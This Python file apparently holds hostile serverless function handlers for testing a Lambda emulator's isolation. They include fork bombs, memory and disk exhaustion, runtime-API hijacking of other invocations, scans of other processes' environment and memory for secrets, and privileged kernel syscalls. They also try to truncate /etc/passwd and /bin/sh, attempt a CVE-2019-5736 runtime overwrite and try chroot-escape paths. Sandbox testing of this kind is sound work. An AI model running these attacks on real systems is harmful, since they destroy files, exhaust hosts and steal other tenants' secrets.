"""Functions that attack. One zip holds them all; the event's `part` says which one a call plays."""
import ctypes
import errno
import hashlib
import hmac
import json
import os
import resource
import signal
import socket
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
X64 = os.uname().machine == "x86_64"
API = os.environ["AWS_LAMBDA_RUNTIME_API"]
calls = 0
kept = []


def handler(event, context):
    global calls
    calls += 1
    return globals()[event["part"]](event, context)


def name_of(error):
    return errno.errorcode.get(error.errno, str(error)) if error.errno else str(error)


def outcome(call):
    """What became of an attempt: "ok", or the name of its error."""
    try:
        call()
        return "ok"
    except OSError as error:
        return name_of(error)
    except ValueError as error:  # how the resource module says EPERM
        return "EPERM" if "not allowed" in str(error) else str(error)


def raw(number, *arguments):
    arguments = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    if libc.syscall(ctypes.c_long(number), *arguments) < 0:
        raise OSError(ctypes.get_errno(), "refused")


def number(x64, arm64):
    return x64 if X64 else arm64


def echo(event, context):
    return {"echo": event.get("text"), "calls": calls, "pid": os.getpid()}


def nap(event, context):
    time.sleep(event["seconds"])
    return {"slept": True}


# --- resources

def fork_to_the_limit(event, context):
    made = 0
    while True:
        try:
            pid = os.fork()
        except OSError as error:
            return {"made": made, "error": name_of(error)}
        if pid == 0:
            signal.pause()
        made += 1


def fork_for_ever(event, context):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def fork_some(event, context):
    for _ in range(40):
        if os.fork() == 0:
            while True:
                time.sleep(0.001)
    time.sleep(1000)


def eat_memory(event, context):
    while True:
        kept.append(b"x" * (4 << 20))


def child_eats_memory(event, context):
    pid = os.fork()
    if pid == 0:
        eat_memory(event, context)
    _, status = os.waitpid(pid, 0)
    return {"child": os.waitstatus_to_exitcode(status)}


def share_memory(event, context):
    """Eats memory that belongs to no process: a file of /dev/shm."""
    with open("/dev/shm/fill", "wb", buffering=0) as file:
        while True:
            file.write(b"x" * (4 << 20))


def fill_tmp(event, context):
    """Writes `written` bytes for real, more than the function's memory, and asks for the rest until there is none."""
    block = b"x" * (1 << 20)
    total = 0
    with open("/tmp/fill", "wb", buffering=0) as file:
        while total < event["written"]:
            total += file.write(block)
        try:
            while True:
                os.posix_fallocate(file.fileno(), total, 1 << 20)
                total += 1 << 20
        except OSError as error:
            result = {"bytes": total, "error": name_of(error)}
    os.unlink("/tmp/fill")
    return result


def fill_tmp_with_names(event, context):
    made = 0
    try:
        while True:
            os.close(os.open(f"/tmp/{made}", os.O_CREAT | os.O_WRONLY))
            made += 1
    except OSError as error:
        return {"made": made, "error": name_of(error)}


def list_tmp(event, context):
    return sorted(os.listdir("/tmp"))


def spam(event, context):
    line = (b"0123456789abcde" * 68)[:1015]
    for i in range(event["megabytes"] * 1024):
        write_all(1, b"%07d " % i + line + b"\n")
    return {"written": event["megabytes"]}


def spam_one_line(event, context):
    block = b"y" * (1 << 20)
    for _ in range(event["megabytes"]):
        write_all(1, block)
    os.write(1, b"\n")
    return {"written": event["megabytes"]}


def write_all(fd, data):
    while data:
        data = data[os.write(fd, data):]


# --- signals and processes

def ignore_term(event, context):
    for one in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(one, signal.SIG_IGN)
    if event.get("hang"):
        while True:
            time.sleep(1000)
    return {"ignoring": True}


def leave_daemons(event, context):
    """Three daemons, each out of the session, deaf to signals and busy."""
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for one in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
                    signal.signal(one, signal.SIG_IGN)
                while True:
                    time.sleep(0.001)
            os._exit(0)
    for _ in range(3):
        os.wait()
    return {"left": 3}


def leave_answerer(event, context):
    """A process that stays and answers, with this call's id, whatever comes next."""
    if os.fork() == 0:
        while True:
            http("POST", f"/2018-06-01/runtime/invocation/{context.aws_request_id}/response", b'"from the past"')
            http("POST", "/2018-06-01/runtime/invocation/00000000-0000-0000-0000-000000000000/response", b'"guessed"')
            time.sleep(0.001)
    return {"left": 1}


# --- the Runtime API

def connect(port=9001, host="169.254.100.1", timeout=5):
    return socket.create_connection((host, port), timeout=timeout)


def http(method, path, body=b"", host="169.254.100.1", port=9001, headers=""):
    with connect(port, host) as link:
        link.sendall(f"{method} {path} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\nContent-Length: {len(body)}\r\n{headers}\r\n".encode() + body)
        answer = b""
        while part := link.recv(65536):
            answer += part
    head, _, rest = answer.partition(b"\r\n\r\n")
    return int(head.split(b" ")[1]) if head else 0, rest.decode("utf-8", "replace")


def answer_twice(event, context):
    path = f"/2018-06-01/runtime/invocation/{context.aws_request_id}/response"
    results = [http("POST", path, b'"first"'), http("POST", path, b'"second"')]
    print("ANSWERS " + json.dumps(results))
    return "third"


def answer_and_work_on(event, context):
    http("POST", f"/2018-06-01/runtime/invocation/{context.aws_request_id}/response", b'"early"')
    while True:
        pass


def answer_for(event, context):
    return http("POST", f"/2018-06-01/runtime/invocation/{event['id']}/response", b'"not yours"')


def break_off(event, context):
    with connect() as link:
        link.sendall(f"POST /2018-06-01/runtime/invocation/{context.aws_request_id}/response HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n".encode() + b'"half')
    time.sleep(30)


def close_sockets(event, context):
    os.closerange(3, 1024)
    return {"closed": True}


def return_megabytes(event, context):
    return "x" * (event["megabytes"] << 20)


def speak_nonsense(event, context):
    """Bytes that are no HTTP, headers without end, bodies that never come, and as many connections as it may hold."""
    seen = []
    for text in (b"\x00\xff" * 4096, b"GET /" + b"a" * 100000, b"GET / HTTP/1.1\r\n" + b"X-A: b\r\n" * 40000,
                 b"POST /2018-06-01/runtime/invocation/x/response HTTP/1.1\r\nHost: x\r\nContent-Length: -5\r\n\r\n",
                 b"POST /2018-06-01/runtime/invocation/../../../../etc/response HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
                 b"POST /2018-06-01/runtime/init/error HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n"):
        for port, host in ((9001, "169.254.100.1"), (4566, "127.0.0.1")):
            try:
                with connect(port, host) as link:
                    link.sendall(text)
                    link.shutdown(socket.SHUT_WR)
                    head = link.recv(12)
                seen.append(head.decode("latin-1"))
            except OSError as error:
                seen.append(name_of(error))
    links = []
    try:
        while len(links) < 2000:
            link = socket.socket()
            link.setblocking(False)
            link.connect_ex(("127.0.0.1", 4566) if len(links) % 2 else ("169.254.100.1", 9001))
            try:
                link.send(b"POST /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n{")
            except OSError:
                pass
            links.append(link)
    except OSError as error:
        seen.append(name_of(error))
    return {"seen": seen, "links": len(links)}


# --- what is to be seen

def read_paths(event, context):
    found = {}
    for path in event["paths"]:
        try:
            found[path] = f"{len(os.listdir(path))} entries" if os.path.isdir(path) else f"{len(open(path, 'rb').read(64))} bytes"
        except OSError as error:
            found[path] = name_of(error)
    return found


def find_names(event, context):
    """Walks everything there is, /proc too, for file names that the host has."""
    wanted = event["names"]
    hits = []
    for folder, folders, files in os.walk("/", followlinks=False):
        hits += [f"{folder}/{name}" for name in folders + files if any(one in name for one in wanted)]
    return hits


def find_text(event, context):
    """Reads whatever a process may read about itself and others, for words that only the host or another function knows."""
    words = [word.encode() for word in event["words"]]
    hits = []

    def look(path):
        try:
            with open(path, "rb") as file:
                data = file.read(1 << 20)
        except OSError:
            return
        hits.extend(f"{path}: {word.decode()}" for word in words if word in data)

    for top in ("/etc", "/var", "/opt", "/tmp", "/home", "/run", "/dev/shm"):
        for folder, _, files in os.walk(top):
            for name in files:
                look(f"{folder}/{name}")
    for pid in [entry for entry in os.listdir("/proc") if entry.isdigit()]:
        # Its own memory holds the words it looks for; other processes' must be closed.
        for name in ("environ", "cmdline", "maps", "comm") + (("mem",) if int(pid) != os.getpid() else ()):
            look(f"/proc/{pid}/{name}")
    for name in ("/proc/net/unix", "/proc/net/tcp", "/proc/mounts", "/proc/cmdline", "/proc/sysvipc/shm", "/proc/keys"):
        look(name)
    return hits


def surroundings(event, context):
    status = dict(line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
    return {
        "root": sorted(os.listdir("/")),
        "pids": sorted(int(entry) for entry in os.listdir("/proc") if entry.isdigit()),
        "self": os.getpid(),
        "devices": sorted(os.listdir("/dev")),
        "interfaces": [name for _, name in socket.if_nameindex()],
        "capabilities": {name: status[name] for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")},
        "privileges": status["NoNewPrivs"],
        "seccomp": status["Seccomp"],
        "groups": status["Groups"].split(),
        "descriptors": {fd: os.readlink(f"/proc/self/fd/{fd}").split(":")[0] for fd in os.listdir("/proc/self/fd") if os.path.lexists(f"/proc/self/fd/{fd}")},
        "ids": [os.getuid(), os.geteuid(), os.getgid(), os.getegid()],
        "environment": sorted(os.environ),
        "limits": {"files": resource.getrlimit(resource.RLIMIT_NOFILE), "core": resource.getrlimit(resource.RLIMIT_CORE)},
    }


def reach(event, context):
    """Tries to connect: [[host, port], …] or ["@name"] for an abstract local socket."""
    found = {}
    for target in event["targets"]:
        def attempt():
            if target[0].startswith("@"):
                with socket.socket(socket.AF_UNIX) as link:
                    link.connect("\0" + target[0][1:])
            elif target[0].startswith("/"):
                with socket.socket(socket.AF_UNIX) as link:
                    link.connect(target[0])
            else:
                connect(target[1], target[0], timeout=1).close()
        found[":".join(map(str, target))] = outcome(attempt)
    return found


def call_region(event, context):
    return http(event.get("method", "GET"), event["path"], event.get("body", "").encode(), "127.0.0.1", 4566, event.get("headers", ""))


def whoami(event, context):
    """GetCallerIdentity with the credentials of the environment, signed by hand: importing an SDK takes longer than all else here."""
    body = "Action=GetCallerIdentity&Version=2011-06-15"
    stamp = time.strftime("%Y%m%dT%H%M%SZ", time.gmtime())
    scope = f"{stamp[:8]}/us-east-1/sts/aws4_request"
    headers = {"host": "127.0.0.1:4566", "x-amz-date": stamp, "x-amz-security-token": os.environ["AWS_SESSION_TOKEN"]}
    names = ";".join(headers)
    canonical = "\n".join(["POST", "/", "", *(f"{name}:{value}" for name, value in headers.items()), "", names, hashlib.sha256(body.encode()).hexdigest()])
    text = "\n".join(["AWS4-HMAC-SHA256", stamp, scope, hashlib.sha256(canonical.encode()).hexdigest()])
    key = ("AWS4" + os.environ["AWS_SECRET_ACCESS_KEY"]).encode()
    for part in scope.split("/") + [text]:
        key = hmac.digest(key, part.encode(), "sha256")
    authorization = f"AWS4-HMAC-SHA256 Credential={os.environ['AWS_ACCESS_KEY_ID']}/{scope}, SignedHeaders={names}, Signature={key.hex()}"
    lines = f"Authorization: {authorization}\r\nX-Amz-Date: {stamp}\r\nX-Amz-Security-Token: {headers['x-amz-security-token']}\r\n"
    return http("POST", "/", body.encode(), "127.0.0.1", 4566, lines + "Content-Type: application/x-www-form-urlencoded\r\n")


def keep_secret(event, context):
    """A victim: its secret stands in its environment, its code, its memory, its /tmp, shared memory and a local socket."""
    kept.append(event["secret"] * 1000)
    for path in ("/tmp/" + event["secret"], "/dev/shm/" + event["secret"]):
        with open(path, "w") as file:
            file.write(event["secret"])
    link = socket.socket(socket.AF_UNIX)
    link.bind("\0" + event["secret"])
    link.listen()
    kept.append(link)
    segment = libc.shmget(event["key"], 4096, 0o1666)
    return {"segment": segment, "id": context.aws_request_id}


def find_segment(event, context):
    return {"found": libc.shmget(event["key"], 4096, 0o666), "error": errno.errorcode.get(ctypes.get_errno())}


# --- what is to be done to the kernel

def attack_kernel(event, context):
    buffer = ctypes.create_string_buffer(4096)

    def text(value):
        return ctypes.c_char_p(value)

    attempts = {
        "mount": lambda: raw(number(165, 40), text(b"none"), text(b"/tmp"), text(b"tmpfs"), 0, 0),
        "bind-mount": lambda: raw(number(165, 40), text(b"/usr"), text(b"/tmp"), 0, 4096, 0),
        "mount-proc": lambda: raw(number(165, 40), text(b"proc"), text(b"/tmp"), text(b"proc"), 0, 0),
        "mount-cgroup": lambda: raw(number(165, 40), text(b"none"), text(b"/tmp"), text(b"cgroup2"), 0, 0),
        "remount-root": lambda: raw(number(165, 40), text(b"none"), text(b"/"), 0, 32, 0),
        "umount": lambda: raw(number(166, 39), text(b"/proc"), 2),
        "pivot_root": lambda: raw(number(155, 41), text(b"."), text(b".")),
        "chroot": lambda: os.chroot("/tmp"),
        "fsopen": lambda: raw(430, text(b"tmpfs"), 0),
        "open_tree": lambda: raw(428, -100, text(b"/"), 1),
        "move_mount": lambda: raw(429, -100, text(b"/usr"), -100, text(b"/tmp"), 0),
        "mount_setattr": lambda: raw(442, -100, text(b"/"), 0, buffer, 32),
        "unshare-user": lambda: raw(number(272, 97), 0x10000000),
        "unshare-mount": lambda: raw(number(272, 97), 0x00020000),
        "unshare-net": lambda: raw(number(272, 97), 0x40000000),
        "unshare-pid": lambda: raw(number(272, 97), 0x20000000),
        "unshare-cgroup": lambda: raw(number(272, 97), 0x02000000),
        "unshare-time": lambda: raw(number(272, 97), 0x00000080),
        "clone-user": lambda: raw(number(56, 220), 0x10000000 | 17, 0, 0, 0, 0),
        "clone-net-user": lambda: raw(number(56, 220), 0x50000000 | 17, 0, 0, 0, 0),
        "setns": lambda: raw(number(308, 268), os.open("/proc/self/ns/net", os.O_RDONLY), 0),
        "bpf": lambda: raw(number(321, 280), 0, buffer, 72),
        "keyctl": lambda: raw(number(250, 219), 0, -3, 0),
        "add_key": lambda: raw(number(248, 217), text(b"user"), text(b"x"), text(b"y"), 1, -3),
        "request_key": lambda: raw(number(249, 218), text(b"user"), text(b"x"), 0, -3),
        "ptrace-traceme": lambda: raw(number(101, 117), 0, 0, 0, 0),
        "ptrace-attach": lambda: raw(number(101, 117), 16, 1, 0, 0),
        "process_vm_readv": lambda: raw(number(310, 270), os.getpid(), 0, 0, 0, 0, 0),
        "process_vm_writev": lambda: raw(number(311, 271), os.getpid(), 0, 0, 0, 0, 0),
        "pidfd_getfd": lambda: raw(438, 0, 0, 0),
        "kcmp": lambda: raw(number(312, 272), os.getpid(), os.getpid(), 0, 0, 0),
        "io_uring": lambda: raw(425, 8, buffer),
        "userfaultfd": lambda: raw(number(323, 282), 1),
        "perf_event_open": lambda: raw(number(298, 241), buffer, 0, -1, -1, 0),
        "kexec_load": lambda: raw(number(246, 104), 0, 0, 0, 0),
        "init_module": lambda: raw(number(175, 105), buffer, 0, text(b"")),
        "finit_module": lambda: raw(number(313, 273), 0, text(b""), 0),
        "delete_module": lambda: raw(number(176, 106), text(b"loop"), 0),
        "reboot": lambda: raw(number(169, 142), 0xFEE1DEAD, 672274793, 0, 0),
        "swapon": lambda: raw(number(167, 224), text(b"/tmp/x"), 0),
        "settimeofday": lambda: raw(number(164, 170), buffer, 0),
        "clock_settime": lambda: time.clock_settime(time.CLOCK_REALTIME, 0),
        "sethostname": lambda: socket.sethostname("mine"),
        "syslog": lambda: raw(number(103, 116), 3, buffer, 100),
        "acct": lambda: raw(number(163, 89), 0),
        "quotactl": lambda: raw(number(179, 60), 0, 0, 0, 0),
        "name_to_handle_at": lambda: raw(number(303, 264), -100, text(b"/"), buffer, buffer, 0),
        "open_by_handle_at": lambda: raw(number(304, 265), -100, buffer, 0),
        "fanotify_init": lambda: raw(number(300, 262), 0, 0),
        "raw-socket": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1),
        "raw-socket-6": lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58),
        "packet-socket": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0),
        "netlink-audit": lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 9),
        "netlink-netfilter": lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12),
        "vsock": lambda: socket.socket(40, socket.SOCK_STREAM, 0),
        "alg-socket": lambda: socket.socket(38, socket.SOCK_SEQPACKET, 0),
        "mknod-block": lambda: os.mknod("/tmp/disk", 0o600 | 0o060000, os.makedev(254, 0)),
        "mknod-char": lambda: os.mknod("/tmp/mem", 0o600 | 0o020000, os.makedev(1, 1)),
        "kill-init": lambda: os.kill(1, signal.SIGKILL),
        "setuid-root": lambda: os.setuid(0),
        "setgroups": lambda: os.setgroups([0]),
        "chown-root": lambda: os.chown("/tmp", 0, 0),
        "raise-priority": lambda: os.setpriority(os.PRIO_PROCESS, 0, -20),
        "raise-limit": lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 20, 1 << 20)),
        "oom-score": lambda: write_file("/proc/self/oom_score_adj", "-1000"),
    }
    return {name: outcome(call) for name, call in attempts.items()}


def write_file(path, text):
    fd = os.open(path, os.O_WRONLY)
    try:
        os.write(fd, text.encode())
    finally:
        os.close(fd)


def attack_files(event, context):
    """Tries to write everywhere it must not."""
    found = {}
    for folder in ("/", "/usr", "/usr/bin", "/etc", "/var", "/var/task", "/var/runtime", "/opt", "/dev", "/home", "/run", "/proc", "/proc/sys/kernel", "/sys", "/sys/fs/cgroup"):
        found["create " + folder] = outcome(lambda: os.close(os.open(folder + "/probe", os.O_CREAT | os.O_WRONLY, 0o666)))
    for path in event["paths"] + [sys.executable, os.path.realpath(sys.executable), "/var/task/hostile.py", "/etc/passwd", "/etc/hosts", "/bin/sh",
                                  "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger", "/proc/sys/kernel/ns_last_pid",
                                  "/proc/self/exe", "/proc/1/exe", "/proc/2/exe", "/proc/1/mem"]:
        found["write " + path] = outcome(lambda: os.close(os.open(path, os.O_WRONLY)))
        found["truncate " + path] = outcome(lambda: os.close(os.open(path, os.O_WRONLY | os.O_TRUNC)))
    for path in ("/proc/self/uid_map", "/proc/self/gid_map"):
        found["write " + path] = outcome(lambda: write_file(path, "0 0 4294967295"))
    for path in ("/usr", "/var/task", "/var/task/hostile.py", "/etc/passwd", "/proc/sys/kernel/hostname"):
        found["chmod " + path] = outcome(lambda: os.chmod(path, 0o777))
        found["rename " + path] = outcome(lambda: os.rename(path, path + "-away"))
    return found


def overwrite_launcher(event, context):
    """CVE-2019-5736: a new program is started of which the first process, or the interpreter, is caught by its /proc entry and written to."""
    opened = []
    for pid in range(1, 64):
        for way in ("exe", "root/proc/self/exe", "cwd"):
            try:
                handle = os.open(f"/proc/{pid}/{way}", 0o10000000)  # O_PATH
            except OSError:
                continue
            for _ in range(50):
                try:
                    opened.append((f"/proc/{pid}/{way}", os.open(f"/proc/self/fd/{handle}", os.O_WRONLY)))
                except OSError:
                    pass
    return opened


def escape_chroot(event, context):
    """Walks up out of the root by every way that has worked somewhere."""
    seen = {}
    here = os.stat("/")
    for path in ("/..", "/../../../..", "/proc/self/root/..", "/proc/self/cwd/../../..", "/proc/1/root", "/proc/2/root/..", "/proc/1/cwd", "/dev/fd/../../.."):
        try:
            found = os.stat(path)
            seen[path] = "inside" if (found.st_dev, found.st_ino) == (here.st_dev, here.st_ino) else sorted(os.listdir(path))
        except OSError as error:
            seen[path] = name_of(error)
    return seen


def signal_everybody(event, context):
    """Signals every number there may be, itself excepted."""
    me = os.getpid()
    return [pid for pid in list(range(1, 40000)) if pid != me and outcome(lambda: os.kill(pid, 0)) != "ESRCH"]
